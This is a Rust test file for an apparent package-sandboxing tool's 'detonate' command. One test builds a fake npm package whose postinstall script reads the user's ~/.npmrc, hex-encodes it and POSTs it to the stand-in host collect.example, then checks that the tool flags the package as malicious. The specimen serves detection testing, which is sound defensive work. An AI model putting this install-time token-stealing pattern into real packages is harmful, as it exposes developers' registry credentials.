//! `lazaret detonate` as its users meet it. The specimen is inert: it reads a planted secret and sends it to a name that
//! only the sinkhole answers for.

use testkit::archive::tgz;

use crate::User;

const SETUP: &str = "const fs = require('fs'), os = require('os');\n\
    const text = fs.readFileSync(os.homedir() + '/.npmrc', 'utf8');\n\
    const out = require('https').request({ host: 'collect.example', method: 'POST' }, (r) => r.resume());\n\
    out.on('error', () => {});\n\
    out.end(Buffer.from(text).toString('hex'));\n";

#[test]
fn a_planted_secret_that_leaves_at_install_is_seen_by_both_witnesses() {
    let user = User::new();
    let manifest = br#"{"name": "small-tool", "version": "1.0.0", "scripts": {"postinstall": "node setup.js"}}"#;
    user.file("1.tgz", tgz(&[("package/package.json", manifest), ("package/setup.js", SETUP.as_bytes())]));
    user.run(&["detonate", "1.tgz", "--no-dependencies", "--profile", "developer"]).ended(
        20,
        &["MALICIOUS", "sent-planted-secrets", "collect.example", "npm-token:hex", "The source says so too"],
    );
}

#[test]
fn what_cannot_be_run_is_said() {
    let user = User::new();
    user.run(&["detonate", "./no-such.tgz"]).ended(3, &["WAS NOT RUN", "no-such.tgz"]);
}
